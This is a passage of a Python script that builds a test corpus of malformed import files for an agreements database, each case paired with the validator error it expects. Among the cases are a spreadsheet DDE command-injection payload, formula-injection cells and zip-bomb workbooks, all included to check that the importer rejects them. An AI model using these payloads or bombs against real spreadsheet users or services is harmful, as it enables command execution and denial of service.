        csv([["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"],
             [AGR, "1960", "1", CAS, "1960-01-01", "1960-12-31", "on_track"]]),
        row=2, column="project", fragment="has no item in the plan",
    )  # fmt: skip
    add(
        "ref-from-party-xx.csv", "exchanges", cat, "an exchange from party XX",
        csv([["agreement", "kind", "from_party", "to_party"], [AGR, "conference", "XX", "SU"]]),
        row=2, column="from_party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "ref-uid-not-a-uuid.csv", "people", cat, "an Accord id that is not a UUID",
        csv("uid,name[en]\nnot-a-uuid,Ann\n"),
        row=2, column="uid", fragment="is not a global id",
    )  # fmt: skip
    cat = "bad vocabulary"
    add(
        "voc-organisation-kind.csv", "organisations", cat, "a kind no vocabulary has",
        csv("name[en],party,kind\nInstitute,CN,university-ish\n"),
        row=2, column="kind", fragment="is not one of",
    )  # fmt: skip
    add(
        "voc-progress-status.xlsx", "progress-reports", cat, "status “done”",
        xlsx([["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"],
              [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "done"]]),
        row=2, column="status", fragment="“done” is not one of",
    )  # fmt: skip
    add(
        "voc-exchange-unit.json", "exchanges", cat, "unit “kg”",
        jsn([{"agreement": AGR, "kind": "sample_shipment", "from_party": "SU", "to_party": "CN", "unit": "kg"}]),
        row=1, column="unit", fragment="“kg” is not one of",
    )  # fmt: skip
    add(
        "voc-participation-role.csv", "participations", cat, "role “boss”",
        csv([["agreement", "project", "organisation", "role"], [AGR, "9", MSU, "boss"]]),
        row=2, column="role", fragment="“boss” is not one of",
    )  # fmt: skip
    add(
        "voc-authentic-languages.csv", "agreements", cat, "an authentic language that is no BCP 47 tag",
        csv([["title[en]", "authentic_languages"], ["T", "zh; Russian!"]]),
        row=2, column="authentic_languages", fragment="not a BCP 47 language tag",
    )  # fmt: skip
    add(
        "voc-orcid-malformed.csv", "people", cat, "an ORCID iD with a wrong check digit",
        csv("external_id,name[en],orcid\nbad:1,Ann,0000-0002-1825-0098\n"),
        row=2, column="orcid", fragment="wrong check digit",
    )  # fmt: skip


def formulas() -> None:
    """Formula-like cells in typed columns are refused by the column's own rule; in free text they are stored
    as text (never evaluated) and neutralised on export (see test_corpus.py)."""
    cat = "formula injection"
    add(
        "formula-hyperlink-as-organisation.csv", "participations", cat, "=HYPERLINK(...) as the organisation",
        csv([["agreement", "project", "organisation"], [AGR, "1", FORMULA]]),
        row=2, column="organisation", fragment="no organisation",
    )  # fmt: skip
    add(
        "formula-hyperlink-as-agreement.xlsx", "projects", cat, "=HYPERLINK(...) text as the agreement",
        xlsx([["agreement", "number", "title[en]"], [FORMULA, "901", "T"]]),
        row=2, column="agreement", fragment="no agreement",
    )  # fmt: skip
    add(
        "formula-in-date.csv", "projects", cat, "=TODAY() as a start date",
        csv([["agreement", "number", "title[en]", "start_on"], [AGR, "901", "T", "=TODAY()"]]),
        row=2, column="start_on", fragment="“=TODAY()” is not a date",
    )  # fmt: skip
    add(
        "formula-neutralised-in-date.csv", "projects", cat,
        "'=TODAY() (as an export neutralises it) as a start date: the apostrophe goes, the formula stays text",
        csv([["agreement", "number", "title[en]", "start_on"], [AGR, "901", "T", "'=TODAY()"]]),
        row=2, column="start_on", fragment="“=TODAY()” is not a date",
    )  # fmt: skip
    add(
        "formula-at-sum-as-party.csv", "organisations", cat, "@SUM(A1) as the party",
        csv("name[en],party\nInstitute,@SUM(A1)\n"),
        row=2, column="party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "formula-plus-as-party.json", "people", cat, "+CN as the party",
        jsn([{"name": {"en": "Ann"}, "party": "+CN"}]),
        row=1, column="party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "formula-dde-as-status.csv", "progress-reports", cat, "a DDE payload as the status",
        csv([["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status"],
             [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "=cmd|' /C calc'!A0"]]),
        row=2, column="status", fragment="is not one of",
    )  # fmt: skip
    add(
        "formula-in-quantity.csv", "exchanges", cat, "=2+5 as a quantity",
        csv([["agreement", "kind", "from_party", "to_party", "quantity"], [AGR, "conference", "CN", "SU", "=2+5"]]),
        row=2, column="quantity", fragment="“=2+5” is not a number",
    )  # fmt: skip
    add(
        "formula-minus-in-percent.csv", "progress-reports", cat, "-1+1 as the percent done",
        csv([["agreement", "plan", "project", "reporting_organisation", "period_start", "period_end", "status",
              "percent"], [AGR, "1959", "4", "Tsinghua University", "1959-01-01", "1959-06-30", "on_track", "-1+1"]]),
        row=2, column="percent", fragment="is not a whole number",
    )  # fmt: skip
    add(
        "formula-in-project-number.csv", "plan-items", cat, "=1 as the project number",
        csv([["agreement", "plan", "project"], [AGR, "1959", "=1"]]),
        row=2, column="project", fragment="no project number “=1”",
    )  # fmt: skip
    add(
        "formula-uncached-in-required-name.xlsx", "people", cat,
        "a real XLSX formula with no cached value as the name: formulas are never evaluated, the cell is empty",
        xlsx([["external_id", "name[en]"], ["bad:1", ("formula", '=CONCAT("A","nn")')]]),
        row=2, column="name[en]", fragment="is required",
    )  # fmt: skip
    add(
        "formula-hyperlink-as-parties.json", "agreements", cat, "=HYPERLINK(...) among the parties",
        jsn([{"title": {"en": "T"}, "parties": ["CN", FORMULA]}]),
        row=1, column="parties", fragment="not an ISO 3166",
    )  # fmt: skip


def broken_files() -> None:
    cat = "truncated, disguised or bomb"
    good = xlsx([["external_id", "name[en]"], *[[f"bad:{i}", f"Person {i}"] for i in range(200)]])
    add(
        "xlsx-truncated-half.xlsx", "people", cat, "an XLSX cut in half",
        good[: len(good) // 2], row=None, column=None, fragment="truncated or damaged",
    )  # fmt: skip
    add(
        "xlsx-truncated-directory.xlsx", "organisations", cat, "an XLSX missing the last 10 bytes (ZIP directory)",
        xlsx([["name[en]", "party"], ["Institute", "CN"]])[:-10],
        row=None, column=None, fragment="truncated or damaged",
    )  # fmt: skip
    sheet = sheet_xml([["external_id", "name[en]"], *[[f"bad:{i}", f"Person {i}"] for i in range(50)]])
    add(
        "xlsx-sheet-xml-cut.xlsx", "people", cat, "a whole ZIP whose sheet XML stops mid-row",
        xlsx(sheet=sheet[: len(sheet) // 2]), row=None, column=None, fragment="truncated or damaged",
    )  # fmt: skip
    add(
        "xlsx-is-pdf.xlsx", "projects", cat, "a PDF named .xlsx",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        row=None, column=None, fragment="it is a PDF document",
    )  # fmt: skip
    add(
        "xlsx-is-csv.xlsx", "organisations", cat, "CSV text named .xlsx",
        csv("name[en],party\nInstitute,CN\n"), row=None, column=None, fragment="not a ZIP archive",
    )  # fmt: skip
    add(
        "xlsx-is-old-xls.xlsx", "people", cat, "an old binary Excel file (OLE2) named .xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), row=None, column=None, fragment="old Excel",
    )  # fmt: skip
    add(
        "xlsx-is-docx.xlsx", "agreements", cat, "a ZIP that is not a workbook (a Word document's parts)",
        zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}),
        row=None, column=None, fragment="not an XLSX workbook",
    )  # fmt: skip
    add(
        "xlsx-bomb-deflate.xlsx", "people", cat,
        "a zip bomb: a 40 KB workbook whose sheet inflates to 48 MB",
        zip_bytes({"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": _WORKBOOK,
                   "xl/worksheets/sheet1.xml": b"<sheetData>" + b" " * (48 * 1024 * 1024)}),
        row=None, column=None, fragment="would unpack to more than it may",
    )  # fmt: skip
    add(
        "xlsx-bomb-declared-size.xlsx", "exchanges", cat,
        "a tiny workbook whose ZIP directory declares a 3 GB sheet",
        _declared_bomb(), row=None, column=None, fragment="would unpack to more than it may",
    )  # fmt: skip
    add(
        "xlsx-malformed-xml.xlsx", "participations", cat, "a sheet that is not well-formed XML",
        xlsx(sheet="<worksheet><sheetData><row><c><<>></sheetData>"),
        row=None, column=None, fragment="truncated or damaged",
    )  # fmt: skip
    add(
        "csv-is-pdf.csv", "organisations", cat, "a PDF named .csv",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", row=None, column=None, fragment="it is a PDF document",
    )  # fmt: skip
    add(
        "csv-is-xlsx.csv", "people", cat, "an XLSX workbook named .csv",
        xlsx([["name[en]"], ["Ann"]]), row=None, column=None, fragment="ZIP archive",
    )  # fmt: skip
    add(
        "csv-is-png.csv", "exchanges", cat, "a PNG image named .csv",
        b"\x89PNG\r\n\x1a\n" + bytes(40), row=None, column=None, fragment="PNG image",
    )  # fmt: skip
    add(
        "csv-is-gzip.csv", "projects", cat, "a gzip archive named .csv",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(20), row=None, column=None, fragment="gzip",
    )  # fmt: skip
    add(
        "csv-nul-bytes.csv", "people", cat, "NUL bytes in a CSV",
        b"external_id,name[en]\r\nbad:1,A\x00nn\r\n", row=None, column=None, fragment="binary",
    )  # fmt: skip
    add(
        "json-is-pdf.json", "plan-items", cat, "a PDF named .json",
        b"%PDF-1.5\n", row=None, column=None, fragment="it is a PDF document",
    )  # fmt: skip
    add(
        "unknown-extension.xml", "people", cat, "an XML file (no importer for .xml)",
        b"<people><person name='Ann'/></people>\n", row=None, column=None, fragment="unknown file type",
    )  # fmt: skip


def _declared_bomb() -> bytes:
    """A valid little ZIP whose central directory claims the sheet unpacks to 3 GB (it does not)."""
    data = xlsx([["external_id"], ["bad:1"]])
    out = bytearray(data)
    name = b"xl/worksheets/sheet1.xml"
    central = out.find(b"PK\x01\x02" + bytes(0))
    while central != -1:
        name_len = int.from_bytes(out[central + 28 : central + 30], "little")
        if out[central + 46 : central + 46 + name_len] == name:
            out[central + 24 : central + 28] = (3 * 1024**3).to_bytes(4, "little")
            break
        central = out.find(b"PK\x01\x02", central + 4)
    return bytes(out)


def empties() -> None:
    cat = "empty"
    add("empty.csv", "organisations", cat, "a file of 0 bytes", b"", row=None, column=None, fragment="empty")
    add("empty.xlsx", "projects", cat, "an XLSX of 0 bytes", b"", row=None, column=None, fragment="empty")
    add("empty.json", "exchanges", cat, "a JSON of 0 bytes", b"", row=None, column=None, fragment="empty")
    add(
        "empty-whitespace.csv", "people", cat, "only blank lines and spaces", b"\r\n  \r\n\t\r\n",
        row=None, column=None, fragment="empty",
    )  # fmt: skip
    add(
        "empty-bom-only.csv", "participations", cat, "only a UTF-8 BOM",
        codecs.BOM_UTF8, row=None, column=None, fragment="the file is empty",
    )  # fmt: skip
    add(
        "empty-delimiters-only.csv", "plan-items", cat, "a header of empty cells",
        b",,,\r\n,,,\r\n", row=1, column=None, fragment="it is empty",
    )  # fmt: skip
    add(
        "empty-array.json", "progress-reports", cat, "an empty JSON array: no records and no columns",
        b"[]", row=1, column=None, fragment="it is empty",
    )  # fmt: skip
    add(
        "empty-sheet.xlsx", "agreements", cat, "a workbook whose sheet has no rows",
        xlsx([]), row=1, column=None, fragment="it is empty",
    )  # fmt: skip


def json_shapes() -> None:
    cat = "JSON shape or types"
    add(
        "json-object-not-array.json", "people", cat, "one object instead of an array of objects",
        jsn({"external_id": "bad:1", "name": {"en": "Ann"}}), row=None, column=None, fragment="array of objects",
    )  # fmt: skip
    add(
        "json-string.json", "organisations", cat, "a JSON string", b'"Institute"',
        row=None, column=None, fragment="array of objects",
    )  # fmt: skip
    add(
        "json-array-of-arrays.json", "projects", cat, "rows as arrays, CSV-style",
        jsn([["agreement", "number"], [AGR, "901"]]), row=None, column=None, fragment="array of objects",
    )  # fmt: skip
    add(
        "json-records-not-array.json", "agreements", cat, "a “records” key that holds an object",
        jsn({"records": {"title": {"en": "T"}}}), row=None, column=None, fragment="array of objects",
    )  # fmt: skip
    add(
        "json-truncated.json", "people", cat, "JSON cut in the middle",
        jsn([{"external_id": "bad:1", "name": {"en": "Ann"}}])[:25], row=None, column=None,
        fragment="the JSON cannot be read",
    )  # fmt: skip
    add(
        "json-trailing-comma.json", "exchanges", cat, "a trailing comma after the last record",
        b'[{"agreement": "x", "kind": "conference"},]', row=None, column=None, fragment="line 1",
    )  # fmt: skip
    add(
        "json-lines.json", "people", cat, "JSON Lines (one object per line), not one array",
        b'{"name": {"en": "Ann"}}\n{"name": {"en": "Bob"}}\n', row=None, column=None, fragment="line 2",
    )  # fmt: skip
    add(
        "json-party-as-object.json", "organisations", cat, "party given as an object",
        jsn([{"name": {"en": "Institute"}, "party": {"code": "CN"}}]), row=1, column="party[code]",
        fragment="unknown column",
    )  # fmt: skip
    add(
        "json-name-as-string.json", "people", cat, "a localized name given as a plain string",
        jsn([{"external_id": "bad:1", "name": "Ann"}]), row=1, column="name", fragment="give the language",
    )  # fmt: skip
    add(
        "json-party-as-list.json", "people", cat, "party given as a list",
        jsn([{"name": {"en": "Ann"}, "party": ["CN", "SU"]}]), row=1, column="party", fragment="one value",
    )  # fmt: skip
    add(
        "json-date-as-list.json", "projects", cat, "a start date given as a list",
        jsn([{"agreement": AGR, "number": "901", "title": {"en": "T"}, "start_on": ["1959", "01", "01"]}]),
        row=1, column="start_on", fragment="one value",
    )  # fmt: skip
    add(
        "json-percent-as-list.json", "progress-reports", cat, "percent given as a list",
        jsn([{"agreement": AGR, "plan": "1959", "project": "4", "reporting_organisation": "Tsinghua University",
              "period_start": "1959-01-01", "period_end": "1959-06-30", "status": "on_track", "percent": [50]}]),
        row=1, column="percent", fragment="one value",
    )  # fmt: skip
    add(
        "json-organisation-as-list.json", "participations", cat, "the organisation given as a list",
        jsn([{"agreement": AGR, "project": "9", "organisation": [MSU]}]), row=1, column="organisation",
        fragment="one value",
    )  # fmt: skip
    add(
        "json-name-null.json", "people", cat, "a required name that is null",
        jsn([{"external_id": "bad:1", "name": {"en": None}}]), row=1, column="name[en]", fragment="is required",
    )  # fmt: skip
    add(
        "json-number-as-float.json", "plan-items", cat, "the project number 1.0 (a float)",
        b'[{"agreement": "' + AGR.encode() + b'", "plan": "1959", "project": 1.0}]', row=1, column="project",
        fragment="no project number “1.0”",
    )  # fmt: skip


def quotes_and_sizes() -> None:
    cat = "unbalanced quotes"
    add(
        "quote-unclosed.csv", "people", cat, "a quote opened in row 3 and never closed",
        b'external_id,name[en]\r\nbad:1,Ann\r\nbad:2,"Bob\r\nbad:3,Cy\r\n', row=3, column=None,
        fragment="the CSV cannot be read",
    )  # fmt: skip
    add(
        "quote-unclosed-swallows-rows.csv", "organisations", cat,
        "an unclosed quote in the last row's name: the rest of the file becomes one cell",
        b'name[en],party\r\nInstitute A,CN\r\n"Institute B,SU\r\nInstitute C,SU\r\n', row=3, column=None,
        fragment="the CSV cannot be read",
    )  # fmt: skip
    add(
        "quote-stray-in-header.csv", "projects", cat, "a stray quote inside a header cell",
        csv(f'agreement,num"ber,title[en]\n{AGR},901,T\n'), row=1, column='num"ber', fragment="unknown column",
    )  # fmt: skip
    cat = "huge row"
    add(
        "huge-cell-40000.csv", "people", cat, "a 40,000-character name",
        csv("external_id,name[en]\nbad:1," + "A" * 40_000 + "\n"), row=2, column="name[en]",
        fragment="longer than 32767 characters",
    )  # fmt: skip
    add(
        "huge-cell-40000.json", "organisations", cat, "a 40,000-character name",
        jsn([{"name": {"en": "Я" * 40_000}, "party": "SU"}]), row=1, column="name[en]",
        fragment="longer than 32767 characters",
    )  # fmt: skip
    add(
        "huge-cell-40000.xlsx", "agreements", cat, "a 40,000-character title (over Excel's own limit)",
        xlsx([["title[en]"], ["T" * 40_000]]), row=2, column="title[en]", fragment="longer than 32767 characters",
    )  # fmt: skip
    add(
        "huge-500-columns.csv", "people", cat, "a header of 500 columns",
        csv([["name[en]", *[f"c{i}" for i in range(499)]], ["Ann", *[""] * 499]]), row=1, column=None,
        fragment="500 columns",
    )  # fmt: skip
    add(
        "huge-500-columns.xlsx", "exchanges", cat, "a sheet header of 500 columns",
        xlsx([[f"c{i}" for i in range(500)]]), row=1, column=None, fragment="500 columns",
    )  # fmt: skip
    add(
        "huge-500-keys.json", "people", cat, "a record of 500 keys",
        jsn([{f"k{i}": "x" for i in range(500)}]), row=1, column=None, fragment="at most 200 are read",
    )  # fmt: skip
    add(
        "huge-row-500-cells.csv", "organisations", cat, "a data row of 500 cells under a 2-column header",
        csv([["name[en]", "party"], ["Institute", "CN", *["x"] * 498]]), row=2, column=None,
        fragment="a value in a column without a (known) header",
    )  # fmt: skip


def real_files() -> None:
    """Issue 16: what real files did (whole-file encodings, dimensions, parties, spreadsheet rows)."""
    ru = "Петухов Виктор Ильич"
    ascii_rows = "".join(f"gen:{i},Person number {i} of a long generated list {'.' * 70},CN\n" for i in range(3000))
    add(
        "enc-ascii-300k-then-undecodable.csv", "people", "wrong or mixed encoding",
        "300 KiB of plain ASCII, then bytes no encoding reads: a guess from the top would say ASCII",
        csv("external_id,name[en],party\n" + ascii_rows) + b"bad:1,\x98\x80\xff\x98,CN\r\n",
        row=3002, column="name[en]", fragment="not valid text in any encoding",
    )  # fmt: skip
    add(
        "enc-ambiguous-gb18030-or-cp1251.csv", "people", "wrong or mixed encoding",
        "one hanzi (王) that reads as well as Russian (Нх): the encoding must be named",
        csv("external_id,name[zh],party\nw:1,王,CN\n", "gb18030"),
        row=2, column="name[zh]", fragment="the encoding is ambiguous",
    )  # fmt: skip
    add(
        "enc-mixed-cp1251-utf8.csv", "people", "wrong or mixed encoding",
        "rows 2-3 in Windows-1251, row 4 in UTF-8 (two files pasted together)",
        csv(f"external_id,name[ru],party\nm:1,{ru},SU\nm:2,Мир,SU\n", "cp1251") + csv(f"m:3,{ru},SU\n"),
        row=2, column="name[ru]", fragment="the file mixes encodings",
    )  # fmt: skip
    add(
        "rows-multiline-cell-then-bad-party.csv", "people", "spreadsheet row numbers",
        "a quoted cell over three lines and an empty line before the bad row: Excel shows it as row 4",
        csv('external_id,name[en],party\np:1,"Wu Heng\nsecond\nthird",CN\n\np:2,Aleksenko,XX\n'),
        row=4, column="party", fragment="not an ISO 3166",
    )  # fmt: skip
    add(
        "ref-party-near-su.csv", "people", "unknown reference",
        "party SUN: the message names the nearest known codes, not every code",
        csv("name[en],party\nAleksenko,SUN\n"),
        row=2, column="party", fragment="nearest: SU",
    )  # fmt: skip
    dimension = sheet_xml([["name[en]", "name[ru]", "orcid", "party"], ["Aleksenko", "Алексенко", "", "SUN"]])
    add(
        "xlsx-dimension-a1-bad-party.xlsx", "people", "unknown reference",
        "a workbook declaring <dimension ref=\"A1\"/> (as CORDIS writes them): column D is still read",
        xlsx(sheet=dimension.replace("<sheetData>", '<dimension ref="A1"/><sheetData>')),
        row=2, column="party", fragment="nearest: SU",
    )  # fmt: skip
    add(
        "parties-state-code-not-iso.csv", "parties", "parties",
        "a state whose code is no ISO 3166 code",
        csv("code,kind,name[en],languages\nXQ,state,Nowhere,en\n"),
        row=2, column="code", fragment="not an ISO 3166 country code",
    )  # fmt: skip
    add(
        "parties-kind-unknown.csv", "parties", "parties",
        "a party kind that is none of state, international organisation, institution",
        csv("code,kind,name[en],languages\nEEC,union,European Economic Community,fr\n"),
        row=2, column="kind", fragment="union",
    )  # fmt: skip
    add(
        "parties-language-not-bcp47.xlsx", "parties", "parties",
        "an official language that is no BCP 47 tag",
        xlsx([["code", "kind", "name[en]", "languages"], ["MN", "state", "Mongolia", "mongolian!"]]),
        row=2, column="languages", fragment="BCP 47",
    )  # fmt: skip


def main() -> None:
    for build in (
        encodings, boms, delimiters, columns, dates, numbers, duplicates, references, formulas, broken_files,
        empties, json_shapes, quotes_and_sizes, real_files,
    ):  # fmt: skip
        build()
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.iterdir():
        old.unlink()
    manifest = []
    for case, data in CASES:
        (CORPUS / case.file).write_bytes(data)
        manifest.append(asdict(case))
    (CORPUS / "MANIFEST.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", "utf-8")
    print(f"{len(CASES)} files in {CORPUS}")


if __name__ == "__main__":
    main()
